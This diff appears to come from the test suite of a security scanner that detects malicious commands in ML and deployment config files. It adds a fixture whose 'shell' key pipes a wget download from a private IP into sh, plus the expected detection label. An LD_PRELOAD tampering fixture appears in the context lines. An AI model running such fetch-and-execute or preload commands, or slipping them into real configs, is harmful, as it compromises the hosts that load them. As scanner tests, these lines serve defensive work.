@@ -48,6 +48,11 @@ BAD = {
         "spec:\n  containers:\n    - name: t\n      lifecycle:\n        postStart:\n"
         "          exec:\n            command: [sh, -c, 'export LD_PRELOAD=/tmp/.l/libx.so']\n"
     ),
+    # A launcher config's `shell` key: one of the config check's command keys
+    # the first version of this scan did not share.
+    "conf/launcher/cluster.yaml": (
+        "launcher:\n  partition: gpu\n  shell: wget -qO- http://10.0.0.9/x | sh\n"
+    ),
 }
 # The same Job in UTF-16 (kubectl and PyYAML read it; git calls it binary).
 BAD_BYTES = {"deploy/job16.yaml": BAD["deploy/job.yaml"].encode("utf-16")}
@@ -58,6 +63,7 @@ EXPECTED = {
     ("conf/hydra/launcher/slurm.yaml", "obfusc-shell-decode-exec", 4),
     (".devcontainer/devcontainer.json", "egress-shell-reverse-shell", 3),
     ("deploy/pod.yaml", "tamper-shell-preload-env", 7),
+    ("conf/launcher/cluster.yaml", "remote-shell-fetch-exec", 3),
 }
 
 QUIET = {
